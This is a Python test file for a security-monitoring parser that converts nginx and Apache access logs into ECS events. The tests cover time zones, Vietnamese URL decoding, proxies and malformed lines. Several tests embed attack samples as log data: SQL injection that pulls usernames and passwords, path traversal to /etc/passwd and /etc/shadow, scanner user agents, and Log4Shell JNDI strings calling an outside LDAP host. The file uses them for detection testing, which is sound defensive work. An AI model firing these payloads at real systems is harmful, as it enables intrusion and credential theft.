"""nginx and Apache access logs -> ECS: golden files, and the properties detection relies on."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from hcm_soc.parsers.base import ParseContext, ParseError
from hcm_soc.parsers.registry import get_parser
from hcm_soc.parsers.web import parse_apache, parse_nginx
from tests.unit.parsers_web import DATA, check_golden, parse_all, sample_lines

CTX = ParseContext(
    dataset="nginx.access",
    timezone=ZoneInfo("Asia/Ho_Chi_Minh"),
    received=datetime(2026, 11, 25, 2, 0, tzinfo=UTC),
)
NGINX = sample_lines(DATA / "nginx_access.log")
APACHE = sample_lines(DATA / "apache_access.log")


def nginx(n: int) -> dict[str, Any]:
    """The event of line `n` (1-based) of the nginx sample."""
    return parse_nginx(NGINX[n - 1], CTX)


def apache(n: int) -> dict[str, Any]:
    return parse_apache(APACHE[n - 1], CTX)


def test_registry_resolves_both_formats() -> None:
    assert get_parser("nginx").parse is parse_nginx
    assert get_parser("apache").parse is parse_apache


def test_nginx_sample_matches_golden() -> None:
    check_golden(parse_all(parse_nginx, NGINX, CTX), DATA / "nginx_access.golden.json")


def test_apache_sample_matches_golden() -> None:
    check_golden(parse_all(parse_apache, APACHE, CTX), DATA / "apache_access.golden.json")


def test_combined_line_has_the_filebeat_fields() -> None:
    e = nginx(1)
    assert e["@timestamp"] == "2026-11-25T01:15:02Z"  # 08:15:02 +0700
    assert e["source"] == {"address": "113.161.72.14", "ip": "113.161.72.14"}
    assert e["http"] == {
        "request": {"method": "GET", "referrer": "https://www.google.com/"},
        "response": {"status_code": 200, "body": {"bytes": 18734}},
        "version": "1.1",
    }
    assert e["url"] == {"original": "/", "path": "/"}
    assert e["user_agent"]["original"].startswith("Mozilla/5.0 (Windows NT 10.0")
    assert e["event"] == {"category": ["web"], "type": ["access"], "outcome": "success"}
    assert e["related"] == {"ip": ["113.161.72.14"]}
    assert "user" not in e  # "-"


@pytest.mark.parametrize(
    ("line", "expected"),
    [(25, "2026-11-25T01:41:00Z"), (26, "2026-11-25T01:41:30Z"), (3, "2026-11-25T01:15:11Z")],
)
def test_time_local_offsets_are_converted_to_utc(line: int, expected: str) -> None:
    # +0000, -0500 (20:41:30 the day before) and +0700 all land on the same UTC clock
    assert nginx(line)["@timestamp"] == expected


def test_time_without_offset_uses_the_source_time_zone() -> None:
    line = '10.0.0.1 - - [25/Nov/2026:08:00:00] "GET / HTTP/1.1" 200 1 "-" "-"'
    assert parse_nginx(line, CTX)["@timestamp"] == "2026-11-25T01:00:00Z"
    utc_ctx = ParseContext(dataset="nginx.access", timezone=ZoneInfo("UTC"))
    assert parse_nginx(line, utc_ctx)["@timestamp"] == "2026-11-25T08:00:00Z"


def test_status_and_outcome() -> None:
    for n in range(1, 27):
        e = nginx(n)
        status = e["http"]["response"]["status_code"]
        assert isinstance(status, int)
        assert e["event"]["outcome"] == ("failure" if status >= 400 else "success")
        assert ("error" in e["event"]["type"]) == (status >= 400)
    assert nginx(22)["http"]["response"]["body"]["bytes"] == 0  # 304, "0" is a size
    assert "body" not in apache(2)["http"]["response"]  # Apache "%b" logs "-" for no body


def test_percent_encoding_is_kept_and_a_decoded_form_added() -> None:
    e = nginx(2)
    assert e["url"]["query"] == "tu-khoa=c%E1%BA%A5p+gi%E1%BA%A5y+ph%C3%A9p+x%C3%A2y+d%E1%BB%B1ng&trang=1"
    assert e["url"]["original"] == "/tim-kiem?" + e["url"]["query"]
    assert e["hcm"]["url"]["decoded"] == {
        "query": "tu-khoa=cấp giấy phép xây dựng&trang=1",
        "original": "/tim-kiem?tu-khoa=cấp giấy phép xây dựng&trang=1",
    }
    assert "hcm" not in nginx(1)  # nothing to decode, nothing added


def test_vietnamese_paths_read_the_same_escaped_raw_or_encoded() -> None:
    # nginx writes the UTF-8 bytes of "đăng-ký-hộ-kinh-doanh" as \xC4\x91...: undone
    assert "\\xC4" in NGINX[2]
    assert nginx(3)["url"]["path"] == "/thu-tuc/đăng-ký-hộ-kinh-doanh"
    # a log written with escape=none carries raw UTF-8: kept as is
    e = nginx(4)
    assert e["url"]["path"] == "/tra-cứu-hồ-sơ"
    assert e["url"]["query"] == "mã-hồ-sơ=000.00.31.H29-261125-0001"
    # percent-encoded: raw kept, decoded form readable, extension lower-cased
    e = nginx(15)
    assert e["url"]["path"].endswith("s%C6%A1.PDF")
    assert e["hcm"]["url"]["decoded"]["path"] == "/tai-lieu/Hướng dẫn nộp hồ sơ.PDF"
    assert e["url"]["extension"] == "pdf"
    assert apache(6)["hcm"]["url"]["decoded"]["query"] == "loai=hồ-sơ-trễ-hạn"


def test_sql_injection_is_visible_encoded_and_decoded() -> None:
    e = nginx(6)
    assert "UNION%20ALL%20SELECT" in e["url"]["query"]
    assert "UNION ALL SELECT NULL,CONCAT(username,0x3a,password)" in e["hcm"]["url"]["decoded"]["query"]
    assert e["user_agent"]["original"] == "sqlmap/1.7.2#stable (https://sqlmap.org)"
    # "+" is a space in a query string
    assert "union select 1,2,table_name" in nginx(7)["hcm"]["url"]["decoded"]["query"]
    # everything after "?" stays in the query, including what an attacker put after "#"
    assert nginx(8)["url"]["query"] == "id=105%27%20AND%201%3D1%20--%20&lang=vi#'--"


def test_path_traversal_keeps_the_encoded_path_and_decodes_it() -> None:
    e = nginx(9)
    assert e["url"]["path"] == "/static/..%2f..%2f..%2f..%2fetc%2fpasswd"
    assert e["hcm"]["url"]["decoded"]["path"] == "/static/../../../../etc/passwd"
    assert "extension" not in e["url"]  # the last decoded segment is "passwd"
    assert nginx(10)["hcm"]["url"]["decoded"]["path"] == "/cgi-bin/../../../../bin/sh"
    assert nginx(11)["url"]["path"] == "/../../../../etc/shadow"
    assert "hcm" not in nginx(11)
    assert apache(5)["hcm"]["url"]["decoded"]["path"] == "/icons/../../../../etc/passwd"


def test_scanner_user_agents_and_log4j_strings_are_kept_whole() -> None:
    assert "Nikto/2.5.0" in nginx(12)["user_agent"]["original"]
    e = nginx(19)
    assert e["user_agent"]["original"].startswith("${jndi:ldap://198.51.100.66:1389/")
    assert e["http"]["request"]["referrer"] == "${jndi:ldap://198.51.100.66:1389/a}"
    assert e["url"]["query"] == "x=${jndi:ldap://198.51.100.66:1389/Exploit}"
    assert "scheme" not in e["url"]  # "://" inside the query does not make it an absolute URL


def test_escaped_quotes_and_backslashes_in_quoted_fields() -> None:
    assert nginx(23)["user_agent"]["original"] == 'Mozilla/5.0 "injected" UA\\test'


def test_ipv6_clients() -> None:
    e = nginx(14)
    assert e["source"] == {"address": "2001:db8:4f1a:2c30::15", "ip": "2001:db8:4f1a:2c30::15"}
    assert e["related"]["ip"] == ["2001:db8:4f1a:2c30::15"]
    assert apache(9)["source"]["ip"] == "2001:db8:ee0::2a"


def test_user_and_x_forwarded_for() -> None:
    e = nginx(5)
    assert e["user"] == {"name": "nguyen.van.an"}
    assert e["related"]["user"] == ["nguyen.van.an"]
    assert e["source"]["ip"] == "10.20.5.31"  # the TCP peer, not the client-supplied header
    assert e["network"] == {"forwarded_ip": "14.161.3.200"}
    assert e["nginx"]["access"]["x_forwarded_for"] == ["14.161.3.200", "10.20.0.4"]
    assert e["related"]["ip"] == ["10.20.5.31", "14.161.3.200", "10.20.0.4"]
    assert "network" not in nginx(25)  # trailing "-"


def test_tls_handshake_on_a_plain_port_is_an_event_not_a_failure() -> None:
    e = nginx(16)
    assert e["nginx"]["access"]["malformed_request"] == NGINX[15].split('"')[1]  # kept as logged
    assert "url" not in e
    assert "request" not in e["http"]
    assert e["http"]["response"]["status_code"] == 400
    assert e["event"]["outcome"] == "failure"
    assert apache(10)["apache"]["access"]["malformed_request"] == "\\x16\\x03\\x01\\x02"


@pytest.mark.parametrize("line", [17, 18])
def test_no_request_line_sets_no_request_fields(line: int) -> None:
    e = nginx(line)
    assert "url" not in e
    assert "nginx" not in e
    assert set(e["http"]) == {"response"}
    assert e["http"]["response"]["status_code"] == 400
    assert "user_agent" not in e and "request" not in e["http"]


def test_request_target_forms() -> None:
    e = nginx(20)  # CONNECT authority-form
    assert e["url"] == {"original": "www.google.com:443", "domain": "www.google.com", "port": 443}
    e = nginx(21)  # absolute-form, a proxy probe
    assert e["url"] == {
        "original": "http://198.51.100.5:8080/proxy-check.txt?src=scan",
        "scheme": "http",
        "domain": "198.51.100.5",
        "port": 8080,
        "path": "/proxy-check.txt",
        "extension": "txt",
        "query": "src=scan",
    }
    assert nginx(13)["url"] == {"original": "*", "path": "*"}  # OPTIONS *
    assert nginx(26)["url"]["path"] == "/tra-cuu;jsessionid=ABC123.node1"
    assert "extension" not in nginx(26)["url"]
    assert nginx(24)["url"]["extension"] == "php"


def test_empty_query_is_an_empty_string_and_no_query_is_absent() -> None:
    base = '10.0.0.1 - - [25/Nov/2026:08:00:00 +0700] "GET {} HTTP/1.1" 200 1 "-" "-"'
    assert parse_nginx(base.format("/a?"), CTX)["url"]["query"] == ""
    assert "query" not in parse_nginx(base.format("/a"), CTX)["url"]


def test_absolute_url_decoded_form_keeps_scheme_and_host() -> None:
    line = '10.0.0.1 - - [25/Nov/2026:08:00:00 +0700] "GET http://a.vn/x%20y?q=%27 HTTP/1.1" 400 1 "-" "-"'
    assert parse_nginx(line, CTX)["hcm"]["url"]["decoded"] == {
        "original": "http://a.vn/x y?q='",
        "path": "/x y",
        "query": "q='",
    }


def test_apache_formats() -> None:
    e = apache(1)  # vhost_combined
    assert e["destination"] == {"domain": "dichvucong.hochiminhcity.gov.vn", "port": 443}
    assert e["url"]["domain"] == "dichvucong.hochiminhcity.gov.vn"
    assert e["source"]["ip"] == "113.161.72.14"
    e = apache(2)  # common: no referrer, no user agent
    assert "user_agent" not in e and "referrer" not in e["http"]["request"]
    e = apache(3)  # HostnameLookups On: a name, not an IP
    assert e["source"] == {
        "address": "host-203-0-113-80.example.vn",
        "domain": "host-203-0-113-80.example.vn",
    }
    assert "related" not in e
    assert apache(4)["destination"] == {"ip": "10.20.0.5", "port": 80}
    assert apache(7)["http"] == {"response": {"status_code": 408}}
    assert apache(11)["http"]["request"]["method"] == "PROPFIND"


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        (27, "response size '' is not a number"),
        (28, "expected client, ident and user before [time]"),
        (29, "unknown month 'Foo'"),
        (30, "status 'OK' is not a 3-digit HTTP status"),
        (31, "empty line"),
    ],
)
def test_lines_that_are_not_access_log_lines_raise_with_a_reason(line: int, reason: str) -> None:
    with pytest.raises(ParseError, match=re.escape(reason)):
        nginx(line)


def test_impossible_date_raises() -> None:
    line = '10.0.0.1 - - [31/Feb/2026:08:00:00 +0700] "GET / HTTP/1.1" 200 1 "-" "-"'
    with pytest.raises(ParseError, match="day is out of range"):
        parse_nginx(line, CTX)


def test_extra_trailing_fields_are_ignored() -> None:
    line = (
        '10.0.0.1 - - [25/Nov/2026:08:00:00 +0700] "GET /a HTTP/1.1" 200 1 "-" "curl/8" "-" '
        'rt=0.004 uct="0.000" "dichvucong.hochiminhcity.gov.vn"'
    )
    e = parse_nginx(line, CTX)
    assert e["user_agent"]["original"] == "curl/8"
    assert e["url"]["path"] == "/a"


def test_crlf_line_ending_is_not_part_of_the_event() -> None:
    line = NGINX[0] + "\r\n"
    assert parse_nginx(line, CTX) == nginx(1)
